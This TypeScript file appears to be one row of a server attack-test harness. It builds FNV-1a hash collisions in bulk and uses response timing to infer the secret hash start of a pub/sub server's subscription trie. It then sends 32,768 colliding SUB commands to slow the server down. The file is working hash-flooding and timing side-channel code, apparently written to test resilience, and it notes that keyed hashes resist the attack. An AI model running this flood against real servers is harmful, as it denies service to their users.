/**
 * Tokens whose hashes are equal, for a trie that hashes tokens by FNV-1a from a secret start.
 *
 * FNV-1a combines a byte with the lowest bits of its state only, and a token's bytes are below 128. So two tokens of one length that
 * collide from one start collide from every start with the same seven lowest bits: there are 128 classes of starts. A chain of 15 pairs
 * of colliding blocks gives 2^15 tokens that all collide. Which class it is shows in the time that the server takes for a few of them.
 * Against a keyed hash nothing of this works: one class is as good as the other, and no chain grows.
 */
import type { AttackClient } from "../attack-client.ts";
import type { Attack, Row } from "../row.ts";

const CLASSES = 128;
const PRIME = 0x01000193;
const BLOCK_SIZE = 6;
const PAIRS = 15;
const LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_";
const TRIED = 2_048;
const TRIES = 3;

/** FNV-1a of a token, from this start. */
export function hashFrom(start: number, block: string): number {
  let hash = start;
  for (let at = 0; at < block.length; at++) hash = Math.imul(hash ^ block.charCodeAt(at), PRIME);
  return hash;
}

/** Finds pairs of colliding blocks, for each class once. */
export class Collisions {
  private readonly pairs = new Map<number, [string, string]>();

  /** `count` tokens, of the 2^15, that collide from starts of this class. */
  tokens(startClass: number, count: number): string[] {
    const chain: [string, string][] = [];
    for (let pair = 0, state = startClass; pair < PAIRS; pair++) {
      const blocks = this.pairOf(state);
      chain.push(blocks);
      state = hashFrom(state, blocks[0]) & (CLASSES - 1);
    }
    return Array.from({ length: count }, (_, index) => chain.map((blocks, pair) => blocks[(index >> pair) & 1]).join(""));
  }

  /** By the birthday paradox, among some hundred thousand blocks. */
  private pairOf(startClass: number): [string, string] {
    let pair = this.pairs.get(startClass);
    if (pair !== undefined) return pair;
    const seen = new Map<number, string>();
    for (let number = startClass; pair === undefined; number++) {
      const block = blockOf(number);
      const hash = hashFrom(startClass, block);
      const other = seen.get(hash);
      if (other !== undefined && other !== block) pair = [other, block];
      seen.set(hash, block);
    }
    this.pairs.set(startClass, pair);
    return pair;
  }
}

/** Blocks whose letters look random, all different. */
function blockOf(number: number): string {
  let bits = Math.imul(number + 1, 0x9e3779b1) >>> 0;
  let block = "";
  for (let at = 0; at < BLOCK_SIZE; at++, bits = Math.floor(bits / LETTERS.length) + at * number) block += LETTERS[bits % LETTERS.length];
  return block;
}

async function subscribe(client: AttackClient, tokens: readonly string[]): Promise<void> {
  await client.writeLines(tokens.length, index => `SUB ${tokens[index]} ${index}\r\n`);
  await client.confirmed();
}

/** The class for which the server takes longest. */
async function slowestClass(attack: Attack, collisions: Collisions): Promise<number> {
  const count = attack.count(TRIED);
  const classes = attack.count(CLASSES);
  const shortest = new Array<number>(classes).fill(Number.POSITIVE_INFINITY);
  for (let attempt = 0; attempt < TRIES; attempt++) {
    for (let startClass = 0; startClass < classes; startClass++) {
      const client = await attack.connect();
      const start = performance.now();
      await subscribe(client, collisions.tokens(startClass, count));
      shortest[startClass] = Math.min(shortest[startClass]!, performance.now() - start);
      client.close();
    }
  }
  const longest = Math.max(...shortest);
  const median = shortest.toSorted((left, right) => left - right)[classes >> 1]!;
  const slowest = shortest.indexOf(longest);
  attack.note(`class ${slowest}: ${longest.toFixed(1)} ms for ${count} SUBs, the median class ${median.toFixed(1)} ms`);
  return slowest;
}

export const COLLISION_ROWS: Row[] = [
  {
    id: "collisions",
    before: "",
    load: "32,768 SUBs whose tokens collide, then the end of that connection",
    async prepare(attack) {
      const collisions = new Collisions();
      const tokens = collisions.tokens(await slowestClass(attack, collisions), attack.count(1 << PAIRS));
      const client = await attack.connect();
      const other = await attack.connect();
      return async () => {
        await subscribe(client, tokens);
        client.close();
        await other.confirmed();
      };
    },
  },
];
